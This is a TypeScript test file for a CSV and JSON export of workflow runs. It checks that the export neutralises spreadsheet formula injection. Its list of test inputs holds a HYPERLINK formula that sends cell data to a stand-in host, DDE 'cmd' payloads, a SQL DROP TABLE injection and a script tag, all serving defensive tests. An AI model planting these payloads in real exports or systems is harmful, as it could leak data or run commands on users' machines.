import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Run } from '../../../src/api/index.ts';
import { toCsv, toExport, toJson } from '../../../src/components/run-table/export-runs.ts';

const names = new Map([['wf_1', 'Sync "new" orders, daily']]);
const run: Run = {
  logId: 'log_1',
  workflowId: 'wf_1',
  status: 'failure',
  executedAt: '2026-11-21T12:00:00Z',
  duration: 1500,
};

/** Reads CSV as RFC 4180 has it. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  while (cell.lastIndex < csv.length) {
    const found = cell.exec(csv);
    if (!found) throw new Error(`Not CSV at ${cell.lastIndex}: ${csv.slice(0, 200)}`);
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

/** What spreadsheets, shells and parsers have stumbled over. */
const naughty = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '"',
  '""',
  '",=1',
  '"\r\n=1',
  ',',
  'a,b',
  'a\r\nb',
  "'=1",
  '\uFEFF=1',
  '\u200b=1',
  '\u202e=1',
  '<script>alert(1)</script>',
  "';DROP TABLE runs;--",
  '田中さんにあげて下さい',
  '👩‍👩‍👧‍👦',
  'NULL',
  'undefined',
  '1e309',
  '"=1+1',
  "''=1",
  '\u200b\u202e\u00ad =1',
  '\u3164=1',
  '|cmd',
  '%1',
  '${7*7}',
];

describe('toCsv', () => {
  it('has a header, a line per run and a byte order mark', () => {
    expect(toCsv([run, { logId: 'log_2', status: 'pending' }], names)).toBe(
      '\uFEFFrun_id,workflow_id,workflow,status,started_at,ended_at,duration_ms\r\n' +
        '"log_1","wf_1","Sync ""new"" orders, daily","failure","2026-11-21T12:00:00Z","2026-11-21T12:00:01.500Z",1500\r\n' +
        '"log_2",,,"pending",,,\r\n',
    );
  });

  it.each(naughty)('keeps %j a text', (text) => {
    const [, row] = parse(toCsv([{ ...run, logId: text, workflowId: text }], new Map([[text, text]])).slice(1));
    expect(row).toHaveLength(7);
    for (const cell of row?.slice(0, 3) ?? []) {
      expect([text, `'${text}`, `'${text.replace(/[\t\r\n]+/, "$&'")}`]).toContain(cell);
      expect(cell).not.toMatch(/^[\s\0\uFEFF\u3164\p{Cf}"]*[=+\-@|%＝＋－＠]|^[\t\r\n]/u);
    }
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a\t=1+1', "a\t'=1+1"],
    ['a\n @SUM(A1)\r\n+1', "a\n' @SUM(A1)\r\n'+1"],
    ['a;"=1";-1', 'a;\'"=1";\'-1'],
    ['a;b;c', 'a;b;c'],
    ['Orders, -1 to +1', 'Orders, -1 to +1'],
    ['2026-04-19', '2026-04-19'],
  ])('starts no formula where another language parts its cells: %j', (text, expected) => {
    expect(parse(toCsv([{ ...run, logId: text }], names).slice(1))[1]?.[0]).toBe(expected);
  });

  it('keeps every text intact and starts no cell like a formula', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...naughty)).filter((one) => one !== '');
    const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '"', ',', "'");
    fc.assert(
      fc.property(fc.array(fc.tuple(start, text, text)), (cells) => {
        const runs = cells.map(([sign, logId, workflowId]) => ({ ...run, logId: sign + logId, workflowId }));
        const rows = parse(toCsv(runs, new Map()).slice(1)).slice(1);
        expect(rows).toHaveLength(runs.length);
        for (const [index, row] of rows.entries()) {
          const { logId, workflowId } = runs[index] ?? run;
          // Nothing is added but marks of a text.
          const bare = (cell: string | undefined) => cell?.replaceAll("'", '');
          expect([row[0], row[1]].map(bare)).toEqual([logId, workflowId].map(bare));
          for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }),
      { numRuns: 200 },
    );
  });
});

describe('toJson', () => {
  it('contains the same values as the CSV', () => {
    expect(JSON.parse(toJson([run], names))).toEqual({
      runs: [
        {
          run_id: 'log_1',
          workflow_id: 'wf_1',
          workflow: 'Sync "new" orders, daily',
          status: 'failure',
          started_at: '2026-11-21T12:00:00Z',
          ended_at: '2026-11-21T12:00:01.500Z',
          duration_ms: 1500,
        },
      ],
    });
  });

  it('keeps every text intact', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (logId) => {
        const { runs } = JSON.parse(toJson([{ ...run, logId }], names)) as { runs: [{ run_id: string }] };
        expect(runs[0].run_id).toBe(logId);
      }),
    );
  });
});

describe('toExport', () => {
  it('has the type of its format', async () => {
    const csv = toExport('csv', [run], names);
    expect(csv.type).toBe('text/csv;charset=utf-8');
    expect([...new Uint8Array(await csv.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(toExport('json', [run], names).type).toBe('application/json');
  });
});
